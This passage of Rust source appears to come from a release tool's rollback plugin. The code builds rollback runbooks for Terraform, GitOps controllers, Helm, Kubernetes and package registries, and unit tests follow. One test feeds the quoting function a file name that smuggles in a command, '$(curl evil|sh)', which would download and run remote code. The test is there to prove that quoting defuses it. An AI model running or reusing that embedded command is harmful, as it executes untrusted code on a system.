                        vec![act(Target::Terraform(dir.clone()), Effect::ToPrevious)],
                    ));
                    continue;
                }
                step.blocks.push(Block::new(
                    format!("Plan and apply the configuration of {prev_md} in {}:", code_span(&dir)),
                    vec![format!(
                        "(cd {} && terraform init && terraform plan -out=rollback.tfplan && terraform apply rollback.tfplan)",
                        sh(&format!("{wt}/{dir}"))
                    )],
                    vec![act(Target::Terraform(dir.clone()), Effect::ToPrevious)],
                ));
                if age == Age::MaybeAdded {
                    step.blocks.push(Block::new(
                        format!(
                            "If {} did not exist at {prev_md} ({tag} added every `.tf` file of it that changed; relkit \
                             was not given the tree to tell), the command above fails: there is nothing to apply. \
                             Destroy what it manages with the configuration of {tag} instead: {}, {} and {}.",
                            code_span(&dir),
                            code_span(&format!("git worktree add {} {}", sh(&release_wt), sh(&ctx.release.tag))),
                            code_span(&destroy(&dir)[0]),
                            code_span(&destroy(&dir)[1]),
                        ),
                        Vec::new(),
                        Vec::new(),
                    ));
                }
            }
            if ages.values().any(|a| *a == Age::Added) {
                step.warning = step.warning.map(|w| {
                    format!(
                        "{w} `terraform destroy` deletes everything a directory {tag} added manages, with its data."
                    )
                });
            }
        }
        step.files = files;
        steps.push(step);
    }
    steps
}

/// `infra/`, `./infra` → `infra`; `` / `./` → `.`.
fn normalize_dir(dir: &str) -> String {
    let d = dir.trim_end_matches('/');
    let d = d.strip_prefix("./").unwrap_or(d);
    if d.is_empty() { ".".to_string() } else { d.to_string() }
}

/// Whether a Terraform directory existed at the previous release.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Age {
    /// It had a `.tf` file there: apply the previous configuration.
    Existed,
    /// The release added it: every `*.tf` and `*.tf.json` file directly in
    /// it in the tree at the release was added by the release (net, over
    /// its commits). The previous release has no configuration there, so
    /// the way back is `terraform destroy` from the current checkout.
    Added,
    /// Without the tree (the `rollback` interface) relkit cannot tell:
    /// every such file the release changed was added, but others may be
    /// unchanged there.
    MaybeAdded,
}

/// The [`Age`] of every directory that holds a Terraform configuration file
/// (`*.tf`, `*.tf.json`), in one pass over the tree (or the changed paths,
/// without it). Only these files make a directory a configuration:
/// `.tfvars`, lock files and `terragrunt.hcl` do not. A directory not in
/// the map has none: it is applied as before.
fn terraform_ages<'a>(ctx: &Ctx<'a>) -> HashMap<&'a str, Age> {
    let config = |p: &str| p.ends_with(".tf") || p.ends_with(".tf.json");
    let dir = |p: &'a str| p.rsplit_once('/').map_or(".", |(d, _)| d);
    let mut ages: HashMap<&'a str, Age> = HashMap::new();
    let (paths, unknown): (Box<dyn Iterator<Item = &'a str>>, bool) = match ctx.tree {
        Some(tree) => (Box::new(tree.iter().map(String::as_str)), false),
        None => (Box::new(ctx.net.keys().copied().filter(|p| ctx.net.get(p) != Some(&ChangeKind::Deleted))), true),
    };
    for path in paths.filter(|p| config(p)) {
        let added = ctx.net.get(path) == Some(&ChangeKind::Added);
        let age = match (added, unknown) {
            (false, _) => Age::Existed,
            (true, false) => Age::Added,
            (true, true) => Age::MaybeAdded,
        };
        let entry = ages.entry(dir(path)).or_insert(age);
        if age == Age::Existed {
            *entry = Age::Existed;
        }
    }
    ages
}

/// The service's way back; `true` when it also reverted the branch (GitOps).
/// `prev` is the previous tag for markdown ([`plain_text`]).
fn service_step(ctx: &Ctx<'_>, prev: &str) -> (Step, bool) {
    let tag = ctx.tag_md;
    let mut step = Step::new("service", format!("Return the service to {prev}"));
    let ns = ctx.namespace();
    for class in [Class::Helm, Class::Kubernetes, Class::Docker, Class::Ci] {
        step.files.extend(ctx.files(class));
    }
    step.files.extend(ctx.scan.manifests.iter().map(|m| PathEntry::new(&m.path, "modified")));
    step.files.sort_by(|a, b| a.path.cmp(&b.path));
    step.files.dedup_by(|a, b| a.path == b.path);

    // Progressive delivery: stop a canary that is still running, first.
    if ctx.has(Controller::ArgoRollout) {
        let (name, rns) = ctx.progressive_name(Controller::ArgoRollout);
        step.blocks.push(Block::new(
            "If the Rollout is still progressing, abort it: the stable ReplicaSet takes all traffic at once (its spec \
             still names the new version; the steps below take that back):",
            vec![format!("kubectl argo rollouts abort {name} -n {rns}")],
            vec![act(Target::Service, Effect::Hold)],
        ));
    }
    let flagger = ctx.has(Controller::Flagger).then(|| ctx.progressive_name(Controller::Flagger));

    let flux: Vec<(&'static str, String, String)> = flux_objects(ctx);
    if !flux.is_empty() {
        let suspend = flux.iter().map(|(k, n, fns)| format!("flux suspend {k} {n} -n {fns}")).collect();
        let resume: Vec<String> = flux.iter().map(|(k, n, fns)| format!("flux resume {k} {n} -n {fns}")).collect();
        let reconcile: Vec<String> =
            flux.iter().map(|(k, n, fns)| format!("flux reconcile {k} {n} -n {fns} --with-source")).collect();
        step.intro = Some(
            "Flux deploys this service from git, so the way back is through git: a `kubectl apply` or `helm rollback` \
             alone is reverted at the next reconciliation."
                .to_string(),
        );
        step.blocks.push(Block::new(
            "Suspend reconciliation, so that nothing re-applies the bad revision while you work:",
            suspend,
            vec![act(Target::Service, Effect::Hold)],
        ));
        step.blocks.push(ctx.revert_block(&format!("Revert {tag} in git:")));
        step.blocks.push(Block::new(
            "Resume, and reconcile from the reverted source now instead of at the next interval:",
            resume.into_iter().chain(reconcile).collect(),
            vec![act(Target::Service, Effect::Release), act(Target::Service, Effect::ToPrevious)],
        ));
        if let Some((name, cns)) = &flagger {
            step.notes.push(format!(
                "Flagger runs {prev} through the canary analysis of {} (namespace {}) like any new version; \
                 to promote it at once, set `spec.skipAnalysis: true` on the Canary in the revert commit and back to \
                 `false` afterwards.",
                code_span(name),
                code_span(cns)
            ));
        }
        return (step, true);
    }

    if ctx.has(Controller::ArgoCd) || ctx.config.argocd_app.is_some() {
        let m = ctx.scan.manifests.iter().find(|m| m.controller() == Some(Controller::ArgoCd));
        let app =
            placeholder_or(&m.and_then(|m| m.name.clone()).or_else(|| ctx.config.argocd_app.clone()), "argocd-app");
        let automated = m.map(|m| m.automated);
        step.intro = Some(
            "Argo CD deploys this service from git: a `kubectl apply` or `helm rollback` alone is reverted by its next \
             sync."
                .to_string(),
        );
        let auto_note = match automated {
            Some(true) => "The Application syncs automatically".to_string(),
            Some(false) => "The Application's manifest sets no automated sync".to_string(),
            None => "If the Application syncs automatically".to_string(),
        };
        step.choices.push(Choice {
            label: "Either",
            title: "roll back in Argo CD now, then revert in git".to_string(),
            when: format!(
                "when every minute counts. {auto_note}: Argo CD refuses `app rollback` while auto-sync is on, so turn it \
                 off first and back on only after the revert is pushed (else it syncs {tag} again)."
            ),
            blocks: vec![
                Block::new(
                    format!("Turn auto-sync off, find the history ID that deployed {prev}, roll back to it:"),
                    vec![
                        format!("argocd app set {app} --sync-policy none"),
                        format!("argocd app history {app}"),
                        format!("argocd app rollback {app} <history-id>"),
                    ],
                    vec![act(Target::Service, Effect::Hold), act(Target::Service, Effect::ToPrevious)],
                ),
                ctx.revert_block(&format!("Revert {tag} in git:")),
                Block::new(
                    "Once the revert is pushed, turn auto-sync back on (if it was on):",
                    vec![format!("argocd app set {app} --sync-policy automated")],
                    vec![act(Target::Service, Effect::Release)],
                ),
            ],
        });
        step.choices.push(Choice {
            label: "Or",
            title: "revert in git and sync".to_string(),
            when: "when the revert can be pushed now: git and the cluster never disagree.".to_string(),
            blocks: vec![
                ctx.revert_block(&format!("Revert {tag} in git:")),
                Block::new(
                    "Sync the Application and wait until it is healthy:",
                    vec![format!("argocd app sync {app}"), format!("argocd app wait {app} --health")],
                    vec![act(Target::Service, Effect::ToPrevious)],
                ),
            ],
        });
        return (step, true);
    }

    // No GitOps: the platform's own undo, or a redeploy of the previous tag.
    let (redeploy_commands, redeploy_notes) = redeploy(ctx).unwrap_or_default();
    let mut undo: Vec<Block> = Vec::new();
    let mut undo_when = format!(
        "when {tag}'s deploy is the last one on the platform (nothing was deployed after it): it is the fastest, and \
         needs no pipeline."
    );
    let helm = ctx.by_class.contains_key(&Class::Helm) || ctx.config.helm_release.is_some();
    let k8s = ctx.files(Class::Kubernetes);
    // The workload's own manifest changed: applying it as it was at the
    // previous tag is the undo (Argo Rollouts: "updating the spec.template
    // back to the previous version will fully revert the rollout").
    let manifest_changed = |c: Controller| {
        ctx.scan.manifests.iter().any(|m| m.controller() == Some(c) && k8s.iter().any(|f| f.path == m.path))
    };
    if ctx.has(Controller::ArgoRollout) && !manifest_changed(Controller::ArgoRollout) {
        let (name, rns) = ctx.progressive_name(Controller::ArgoRollout);
        undo.push(Block::new(
            format!("Set the Rollout's spec back to its previous revision ({prev}) and watch it:"),
            vec![
                format!("kubectl argo rollouts undo {name} -n {rns}"),
                format!("kubectl argo rollouts status {name} -n {rns}"),
            ],
            vec![act(Target::Service, Effect::StepBack)],
        ));
    } else if let Some((name, cns)) = &flagger {
        undo.push(Block::new(
            format!(
                "While the analysis of the Canary {} is still running, and it has a `rollback` webhook to \
                 flagger-loadtester: open the rollback gate, and Flagger routes all traffic back to the primary:",
                code_span(name)
            ),
            vec![format!(
                "kubectl -n <loadtester-namespace> exec deploy/flagger-loadtester -- curl -s -d {} http://localhost:8080/rollback/open",
                sh(&format!("{{\"name\": \"{}\", \"namespace\": \"{}\"}}", name.trim_matches('\''), cns.trim_matches('\'')))
            )],
            vec![act(Target::Service, Effect::ToPrevious)],
        ));
        undo_when = format!(
            "while the canary analysis of {tag} is still running. After promotion the primary runs {tag} and there \
             is nothing to roll back to: redeploy (Flagger then analyses {prev} like any new version; \
             `spec.skipAnalysis: true` on the Canary promotes it at once). Never `kubectl rollout undo` the \
             `-primary` Deployment: Flagger owns it."
        );
    } else if helm {
        let r = placeholder_or(&ctx.config.helm_release, "helm-release");
        undo.push(Block::new(
            format!(
                "Find the revision that deployed {prev} (its APP VERSION or chart), then roll back to it by number:"
            ),
            vec![format!("helm history {r} -n {ns}"), format!("helm rollback {r} <revision> -n {ns} --wait")],
            vec![act(Target::Service, Effect::ToPrevious)],
        ));
    }
    let workload_is_manifests = undo.is_empty();
    if let (false, Some(wt)) = (k8s.is_empty(), ctx.worktree) {
        let added: Vec<String> = k8s
            .iter()
            .filter(|f| f.change == "added")
            .map(|f| format!("kubectl delete -n {ns} -f {}", sh(&f.path)))
            .collect();
        let existing: Vec<PathEntry> = k8s.iter().filter(|f| f.change != "added").cloned().collect();
        let dirs = parent_dirs(&existing);
        let mut commands: Vec<String> = added;
        commands.extend(dirs.iter().map(|d| format!("kubectl apply -n {ns} -f {}", sh(&format!("{wt}/{d}")))));
        if manifest_changed(Controller::ArgoRollout) {
            let (name, rns) = ctx.progressive_name(Controller::ArgoRollout);
            commands.push(format!("kubectl argo rollouts status {name} -n {rns}"));
        } else if let Some(d) = &ctx.config.deployment {
            commands.push(format!("kubectl rollout status deployment/{} -n {ns}", sh(d)));
        }
        let mut actions: Vec<Action> =
            parent_dirs(&k8s).into_iter().map(|d| act(Target::Manifests(d), Effect::ToPrevious)).collect();
        if workload_is_manifests {
            actions.push(act(Target::Service, Effect::ToPrevious));
        }
        undo.push(Block::new(
            format!(
                "Put the Kubernetes manifests back as they were at {prev}{} (objects {tag} added are deleted from the \
                 current checkout):",
                if workload_is_manifests { "; this also returns the workload" } else { "" },
            ),
            commands,
            actions,
        ));
    } else if undo.is_empty()
        && let Some(d) = &ctx.config.deployment
    {
        let d = sh(d);
        undo.push(Block::new(
            format!("Find the ReplicaSet revision that ran {prev}, return the Deployment to it, and watch it:"),
            vec![
                format!("kubectl rollout history deployment/{d} -n {ns}"),
                format!("kubectl rollout undo deployment/{d} -n {ns} --to-revision=<revision>"),
                format!("kubectl rollout status deployment/{d} -n {ns}"),
            ],
            vec![act(Target::Service, Effect::ToPrevious)],
        ));
    }

    let mut redeploy_actions = vec![act(Target::Service, Effect::ToPrevious)];
    redeploy_actions.extend(parent_dirs(&k8s).into_iter().map(|d| act(Target::Manifests(d), Effect::ToPrevious)));
    let redeploy_block = Block::new(
        if redeploy_commands.is_empty() {
            String::new()
        } else {
            format!("Run the deploy pipeline on the tag {prev}:")
        },
        redeploy_commands,
        if ctx.repository.forge == ForgeKind::Unknown { Vec::new() } else { redeploy_actions },
    );
    if undo.is_empty() {
        step.blocks.push(redeploy_block);
        step.notes.extend(redeploy_notes);
    } else {
        step.intro = Some("Do one of these, not both: the second would act on the first one's result.".to_string());
        step.choices.push(Choice {
            label: "Either",
            title: "undo on the platform".to_string(),
            when: undo_when,
            blocks: undo,
        });
        let mut blocks = vec![redeploy_block];
        blocks.extend(redeploy_notes.into_iter().map(|n| Block::new(n, Vec::new(), Vec::new())));
        step.choices.push(Choice {
            label: "Or",
            title: format!("redeploy {prev}"),
            when: format!(
                "when other deploys came after {tag}, the platform's history no longer has {prev}, or you want the \
                 pipeline's checks."
            ),
            blocks,
        });
    }
    if ctx.by_class.contains_key(&Class::Docker) {
        let image = ctx.config.image.clone().unwrap_or_else(|| "<image>".to_string());
        let version = ctx.prev_version.unwrap_or("<previous-version>");
        step.notes.push(format!(
            "This release changed how the container image is built: run the image built for {prev} \
             ({}), not a rebuild of it from today's base images.",
            code_span(&format!("{image}:{version}"))
        ));
    }
    if ctx.by_class.contains_key(&Class::Ci) {
        step.notes.push(format!(
            "A pipeline run for {prev} uses the CI configuration at {prev}; check that the secrets, variables and \
             runners it expects still exist."
        ));
    }
    (step, false)
}

/// The Flux objects to suspend: those of the changed manifests, else
/// `[rollback] flux-resource`, else a placeholder — when Flux is found.
fn flux_objects(ctx: &Ctx<'_>) -> Vec<(&'static str, String, String)> {
    let flux = ctx.has(Controller::FluxHelmRelease) || ctx.has(Controller::FluxKustomization);
    if !flux && ctx.config.flux_resource.is_none() {
        return Vec::new();
    }
    let ns_for = |kind: &str, ns: Option<&String>| match (ns, &ctx.config.flux_namespace) {
        (Some(n), _) | (None, Some(n)) => sh(n),
        // `flux bootstrap` puts its Kustomizations in flux-system.
        (None, None) if kind == "kustomization" => "flux-system".to_string(),
        (None, None) => ctx.namespace(),
    };
    let mut out: Vec<(&'static str, String, String)> = ctx
        .scan
        .manifests
        .iter()
        .filter_map(|m| {
            let kind = match m.controller()? {
                Controller::FluxHelmRelease => "helmrelease",
                Controller::FluxKustomization => "kustomization",
                _ => return None,
            };
            Some((kind, sh(m.name.as_deref()?), ns_for(kind, m.namespace.as_ref())))
        })
        .collect();
    out.dedup();
    if out.is_empty() {
        let (kind, name) = match ctx.config.flux_resource.as_deref().and_then(flux_kind) {
            Some((k, n)) => (k, sh(n)),
            None if ctx.has(Controller::FluxHelmRelease) => ("helmrelease", "<flux-helmrelease>".to_string()),
            None => ("kustomization", "<flux-kustomization>".to_string()),
        };
        out.push((kind, name, ns_for(kind, None)));
    }
    out
}

/// A PyPI project name normalized (PEP 503): lower case, each run of `-`,
/// `_` and `.` one `-`.
fn pep503(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    for c in name.chars() {
        if matches!(c, '-' | '_' | '.') {
            if !out.ends_with('-') {
                out.push('-');
            }
        } else {
            out.push(c.to_ascii_lowercase());
        }
    }
    out
}

/// The message of `npm deprecate`.
fn deprecation(version: &str, prev: Option<&str>) -> String {
    match prev {
        Some(p) => format!("{version} is broken; use {p} or the next patch release"),
        None => format!("{version} is broken; use the next patch release"),
    }
}

fn library_steps(ctx: &Ctx<'_>) -> Vec<Step> {
    let mut steps = Vec::new();
    // Commands take the version as it is (quoted by `sh`), prose `_md`.
    let version = &ctx.release.version;
    let version_md = ctx.version_md;
    let tag = ctx.tag_md;
    let prev = ctx.prev_version;
    let mut withdraw = Step::new("withdraw", format!("Stop new installs of {version_md}"));
    withdraw.intro = Some(format!(
        "Nothing is deployed: {tag} is a package others install. Take the version back on its registry so that no \
         new build picks it up; builds that locked it keep working."
    ));
    let mut packages = ctx.scan.packages.clone();
    // Only what this release published: a workspace member whose manifest
    // changed for a requirement was not released, and its name at this
    // version may be another, real release on the registry.
    let released = &ctx.config.released_manifests;
    if packages.iter().any(|p| released.contains(&p.path)) {
        packages.retain(|p| released.contains(&p.path));
    } else if !released.is_empty() {
        // A workspace root released its members' shared version: a member
        // that writes another version of its own was not this release.
        packages.retain(|p| p.version.as_deref().is_none_or(|v| v == version.as_str()));
    }
    packages.sort_by(|a, b| (a.ecosystem, &a.path).cmp(&(b.ecosystem, &b.path)));
    let mut go_retract = false;
    for p in &packages {
        let name = |placeholder: &str| p.name.as_deref().map_or_else(|| format!("<{placeholder}>"), sh);
        let target = Target::Package(p.path.clone());
        let from = code_span(&p.path);
        match p.ecosystem {
            // cargo-yank(1): `cargo yank [options] --version version [crate]`.
            Ecosystem::Cargo => withdraw.blocks.push(Block::new(
                format!("crates.io ({from}):"),
                vec![format!("cargo yank --version {} {}", sh(version), name("crate"))],
                vec![act(target, Effect::Withdraw)],
            )),
            // npm-deprecate(1): `npm deprecate <package-spec> <message>`.
            Ecosystem::Npm => withdraw.blocks.push(Block::new(
                format!("npm ({from}):"),
                vec![format!(
                    "npm deprecate {} {}",
                    p.name.as_deref().map_or_else(|| format!("<package>@{version}"), |n| sh(&format!("{n}@{version}"))),
                    sh(&deprecation(version, prev))
                )],
                vec![act(target, Effect::Withdraw)],
            )),
            // gem-yank(1): `gem yank GEMNAME -v VERSION`.
            Ecosystem::RubyGems => withdraw.blocks.push(Block::new(
                format!("RubyGems ({from}):"),
                vec![format!("gem yank {} -v {}", name("gem"), sh(version))],
                vec![act(target, Effect::Withdraw)],
            )),
            // The go.mod reference: `retract` directive; `go mod edit -retract=version`.
            Ecosystem::Go => {
                go_retract = true;
                let dir = p.path.rsplit_once('/').map_or(".", |(d, _)| d);
                let cd = if dir == "." { String::new() } else { format!("cd {} && ", sh(dir)) };
                withdraw.blocks.push(Block::new(
                    format!(
                        "Go module {}({from}): retract v{version_md} in go.mod; the retraction takes effect when \
                         the fix-forward release below publishes it:",
                        p.name.as_deref().map(|n| format!("{} ", plain_text(n))).unwrap_or_default()
                    ),
                    vec![format!(
                        "({cd}go mod edit -retract={} && git commit -am {})",
                        sh(&format!("v{version}")),
                        sh(&format!("fix: retract v{version}"))
                    )],
                    vec![act(target, Effect::Withdraw)],
                ));
            }
            // PEP 592: yanking is done on PyPI's web interface.
            Ecosystem::PyPi => {
                // Without the name the address is code: `<project>` would be read as HTML.
                let url = match &p.name {
                    Some(n) => plain_text(&format!("https://pypi.org/manage/project/{}/release/{version}/", pep503(n))),
                    None => code_span(&format!("https://pypi.org/manage/project/<project>/release/{version}/")),
                };
                withdraw.notes.push(format!(
                    "PyPI ({from}): yank {version_md} in the web interface, {url} → Options → Yank, with the reason. \
                     pip then installs it only when it is pinned with `==`."
                ));
            }
            Ecosystem::Maven => withdraw.notes.push(format!(
                "Maven ({from}): Maven Central never removes or hides a version. Release the fix below and say in its \
                 notes to skip {version_md}."
            )),
        }
    }
    if packages.is_empty() {
        withdraw.notes.push(format!(
            "relkit found no package manifest: yank or deprecate {version_md} on your registry (`cargo yank --version`, \
             `npm deprecate`, `gem yank -v`, a go.mod `retract`, PyPI's Yank button)."
        ));
    }
    steps.push(withdraw);

    if ctx.prev_tag.is_some() {
        let mut step = Step::new("revert", "Revert the release on the branch");
        step.blocks.push(ctx.revert_block(&format!(
            "Take {tag}'s changes out of the branch, in one commit, so that the fix-forward release does not ship them:"
        )));
        steps.push(step);
    }

    let mut fix = Step::new("fix-forward", "Release the fix");
    let next = semver::Version::parse(version)
        .ok()
        .filter(|v| v.pre.is_empty())
        .map(|v| format!("{}.{}.{}", v.major, v.minor, v.patch + 1));
    fix.blocks.push(Block::new(
        format!(
            "A revert of released commits is a patch: release {} so that users who upgraded get the fix by upgrading \
             again{}:",
            next.as_deref().unwrap_or("the next version"),
            if go_retract { " (it carries the `retract` directive)" } else { "" }
        ),
        if ctx.config.pull_request {
            // `relkit release` waits for a merged release pull request.
            vec!["relkit prepare --push   # then merge the release pull request; CI releases it".to_string()]
        } else {
            vec!["relkit release --push".to_string()]
        },
        packages.iter().map(|p| act(Target::Package(p.path.clone()), Effect::Forward)).collect(),
    ));
    fix.notes.push(format!(
        "Tell users who already depend on {version_md}: pin the previous version{} or upgrade to the fix.",
        ctx.prev_version_md.map(|p| format!(" ({p})")).unwrap_or_default()
    ));
    steps.push(fix);
    steps
}

fn verify(ctx: &Ctx<'_>, kind: Kind) -> Verify {
    let config = ctx.config;
    let mut commands = config.verify.clone();
    commands.extend(config.health_urls.iter().map(|u| format!("curl -fsS {}", sh(u))));
    if kind == Kind::Library {
        let checklist = vec![
            format!("The registry marks {} as yanked or deprecated.", ctx.version_md),
            "A fresh install without a lock file resolves to the fix-forward release.".to_string(),
        ];
        return Verify { commands, dashboards: config.dashboards.clone(), checklist, confirm: Vec::new() };
    }
    let checklist = if commands.is_empty() && config.dashboards.is_empty() {
        vec![
            "The service's health endpoint answers 200 (set `[rollback] health-urls` to list them here).".to_string(),
            format!("Error rate and latency are back to where they were before {}.", ctx.tag_md),
            "SLO dashboards show no ongoing error-budget burn (set `[rollback] dashboards`).".to_string(),
            "The logs show no new errors since the rollback.".to_string(),
        ]
    } else {
        Vec::new()
    };
    let mut confirm = Vec::new();
    if let Some(v) = ctx.prev_version {
        let ns = ctx.namespace();
        let k8s = ctx.by_class.contains_key(&Class::Kubernetes) || ctx.by_class.contains_key(&Class::Docker);
        let image = "-o jsonpath='{.spec.template.spec.containers[*].image}'";
        if ctx.has(Controller::ArgoRollout) {
            let (name, rns) = ctx.progressive_name(Controller::ArgoRollout);
            confirm.push(format!("kubectl argo rollouts get rollout {name} -n {rns}  # expect images {v}"));
            return Verify { commands, dashboards: config.dashboards.clone(), checklist, confirm };
        }
        if ctx.has(Controller::Flagger) {
            // Flagger copies the target into `<name>-primary`, which serves the traffic.
            let (name, cns) = ctx.progressive_name(Controller::Flagger);
            confirm.push(format!("kubectl get deployment/{name}-primary -n {cns} {image}  # expect {v}"));
            return Verify { commands, dashboards: config.dashboards.clone(), checklist, confirm };
        }
        match (&config.deployment, k8s) {
            (Some(d), _) => confirm.push(format!(
                "kubectl get deployment/{} -n {ns} -o jsonpath='{{.spec.template.spec.containers[*].image}}'  # expect {v}",
                sh(d)
            )),
            (None, true) => confirm.push(format!(
                "kubectl get deployment/<deployment> -n {ns} -o jsonpath='{{.spec.template.spec.containers[*].image}}'  # expect {v}"
            )),
            (None, false) => {}
        }
    }
    Verify { commands, dashboards: config.dashboards.clone(), checklist, confirm }
}

fn risk(
    release: &Release,
    migrations: &[PathEntry],
    risky: &[Risky],
    breaking: &[Item],
    reverts: &[Item],
    infra: [(&str, bool); 5],
) -> Risk {
    let tag = plain_text(&release.tag);
    if !risky.is_empty() {
        return Risk {
            level: "unsafe",
            label: "Unsafe",
            summary: format!(
                "{tag} drops data ({}); no rollback brings it back, so restore it from a backup first.",
                risky.iter().map(|r| r.path_md.as_str()).collect::<Vec<_>>().join(", ")
            ),
        };
    }
    if !migrations.is_empty() {
        let n = migrations.len();
        let files = if n == 1 { "1 migration file".to_string() } else { format!("{n} migration files") };
        return Risk {
            level: "unsafe",
            label: "Unsafe",
            summary: format!(
                "{tag} changes the database ({files}); rolling back the code will not undo that, so deal with the data first."
            ),
        };
    }
    let touched: Vec<&str> = infra.iter().filter(|(_, on)| *on).map(|(name, _)| *name).collect();
    let mut reasons = Vec::new();
    if !touched.is_empty() {
        reasons.push(format!("changes infrastructure ({})", touched.join(", ")));
    }
    match breaking.len() {
        0 => {}
        1 => reasons.push("has a breaking change that consumers may already depend on".to_string()),
        n => reasons.push(format!("has {n} breaking changes that consumers may already depend on")),
    }
    if !reverts.is_empty() {
        reasons.push("reverts changes of earlier releases, which a rollback brings back".to_string());
    }
    if reasons.is_empty() {
        return Risk {
            level: "safe",
            label: "Safe",
            summary: "code-only release, no migrations, no infrastructure changes.".to_string(),
        };
    }
    let joined = match reasons.len() {
        1 => reasons.remove(0),
        _ => {
            let last = reasons.pop().unwrap_or_default();
            format!("{} and {last}", reasons.join(", "))
        }
    };
    Risk { level: "caution", label: "Caution", summary: format!("{tag} {joined}; follow the steps in order.") }
}

#[cfg(test)]
mod tests {
    use relkit_plugin_sdk::Settings;
    use relkit_plugin_sdk::types::{Commit, ForgeKind, Person, Release, Repository, Tag};

    use super::{Classifier, Config, build, sh};

    fn commit(key: &str, message: &str) -> Commit {
        Commit {
            id: key.repeat(40 / key.len()),
            message: message.to_string(),
            author: Person { name: "Ada".into(), email: "ada@example.com".into() },
            time: 0,
            parents: vec![],
            changed_paths: vec![],
        }
    }

    fn items(commits: Vec<Commit>) -> (Vec<String>, Vec<String>) {
        let release = Release {
            version: "2.0.0".into(),
            tag: "v2.0.0".into(),
            commit_id: "f".repeat(40),
            date: "2026-11-29".into(),
            previous: None,
            commits,
        };
        let repository = Repository { remote_url: None, forge: ForgeKind::Unknown, web_url: None };
        let settings = Settings::new(&[]);
        let classifier = Classifier::from_settings(&settings).unwrap_or_else(|e| panic!("{e}"));
        let config = Config::from_settings(&settings).unwrap_or_else(|e| panic!("{e}"));
        let d = build(&release, &repository, &config, &classifier, super::Tree::default());
        let texts = |items: &[super::Item]| items.iter().map(|i| i.text.clone()).collect();
        (texts(&d.breaking_changes), texts(&d.reverted_releases))
    }

    #[test]
    fn commit_text_is_escaped_and_reverts_read_git_s_wording() {
        let (breaking, reverted) = items(vec![
            commit("c", "Reapply \"feat: x\"\n\nThis reverts commit 0123456789."),
            commit("b", "Revert \"fix(ui): keep <details> open\" (#123)\n\nThis reverts commit 9876543210."),
            commit("a", "feat!: drop <T> & `Vec<T>`"),
        ]);
        assert_eq!(breaking, ["drop &lt;T&gt; & `Vec<T>`"]);
        assert_eq!(
            reverted,
            ["fix(ui): keep &lt;details&gt; open (#123) (reverts 9876543)", "Reapply \"feat: x\" (reverts 0123456)"]
        );
    }

    /// The redeploy commands and the `gh` / `glab` commands quoted in its notes.
    fn redeploy(forge: ForgeKind, web_url: &str) -> Vec<String> {
        let release = Release {
            version: "1.4.1".into(),
            tag: "v1.4.1".into(),
            commit_id: "f".repeat(40),
            date: "2026-11-29".into(),
            previous: Some(Tag {
                name: "v1.4.0".into(),
                version: "1.4.0".into(),
                commit_id: "e".repeat(40),
                time: 0,
                date: "2026-10-30".into(),
            }),
            commits: vec![commit("a", "fix: x")],
        };
        let repository = Repository { remote_url: None, forge, web_url: Some(web_url.into()) };
        let settings = Settings::new(&[]);
        let classifier = Classifier::from_settings(&settings).unwrap_or_else(|e| panic!("{e}"));
        let config = Config::from_settings(&settings).unwrap_or_else(|e| panic!("{e}"));
        let d = build(&release, &repository, &config, &classifier, super::Tree::default());
        let step = d.plan.iter().find(|s| s.id == "service").unwrap_or_else(|| panic!("no service step"));
        let quoted = step
            .notes
            .iter()
            .flat_map(|n| n.split('`').skip(1).step_by(2).map(str::to_string))
            .filter(|q| q.starts_with("gh ") || q.starts_with("glab "));
        step.blocks.iter().flat_map(|b| b.commands.iter().cloned()).chain(quoted).collect()
    }

    #[test]
    fn glab_names_a_self_hosted_gitlab() {
        let commands = redeploy(ForgeKind::Gitlab, "https://gitlab.example.com/platform/team/rocket");
        assert_eq!(
            commands,
            [
                "glab ci run --branch v1.4.0 --repo https://gitlab.example.com/platform/team/rocket",
                "glab ci list --ref v1.4.0 --repo https://gitlab.example.com/platform/team/rocket",
                "glab ci retry <deploy-job> --pipeline-id <pipeline-id> --repo https://gitlab.example.com/platform/team/rocket",
            ]
        );
        // a port and plain http stay in the URL
        for web in ["https://gitlab.example.com:8443/group/project", "http://gitlab.internal/group/project"] {
            let commands = redeploy(ForgeKind::Gitlab, web);
            assert!(commands.iter().all(|c| c.ends_with(&format!(" --repo {web}"))), "{commands:?}");
        }
        // gitlab.com is glab's default host: the project path is enough
        let commands = redeploy(ForgeKind::Gitlab, "https://gitlab.com/group/sub/project/");
        assert_eq!(commands[0], "glab ci run --branch v1.4.0 --repo group/sub/project");
        assert!(commands.iter().all(|c| c.ends_with(" --repo group/sub/project")), "{commands:?}");
        let commands = redeploy(ForgeKind::Gitlab, "https://GitLab.com/group/project");
        assert!(commands.iter().all(|c| c.ends_with(" --repo group/project")), "{commands:?}");
    }

    #[test]
    fn gh_names_a_github_enterprise_host() {
        let commands = redeploy(ForgeKind::Github, "https://github.example.com/acme/rocket");
        assert_eq!(
            commands,
            [
                "gh workflow run <deploy-workflow.yml> --ref v1.4.0 --repo github.example.com/acme/rocket",
                "gh run list --branch v1.4.0 --repo github.example.com/acme/rocket",
                "gh run rerun <run-id> --repo github.example.com/acme/rocket",
            ]
        );
        let commands = redeploy(ForgeKind::Github, "https://acme.ghe.com/acme/rocket");
        assert!(commands.iter().all(|c| c.ends_with(" --repo acme.ghe.com/acme/rocket")), "{commands:?}");
        // github.com is gh's default host
        let commands = redeploy(ForgeKind::Github, "https://github.com/acme/rocket");
        assert!(commands.iter().all(|c| c.ends_with(" --repo acme/rocket")), "{commands:?}");
        assert_eq!(commands.len(), 3);
    }

    #[test]
    fn shell_words_are_quoted_when_needed() {
        assert_eq!(sh("deploy/k8s/app.yaml"), "deploy/k8s/app.yaml");
        assert_eq!(sh("k8s/my app.yaml"), "'k8s/my app.yaml'");
        assert_eq!(sh("k8s/$(curl evil|sh).yaml"), "'k8s/$(curl evil|sh).yaml'");
        assert_eq!(sh("it's"), "'it'\\''s'");
        assert_eq!(sh("*=img:1.0"), "'*=img:1.0'");
        assert_eq!(super::normalize_dir("./infra/"), "infra");
        assert_eq!(super::normalize_dir("./"), ".");
        // a control character keeps the command on one line
        assert_eq!(sh("a\nb's\\c\td\u{1b}\u{85}"), "$'a\\nb\\'s\\\\c\\td\\x1b\\xc2\\x85'");
    }
}
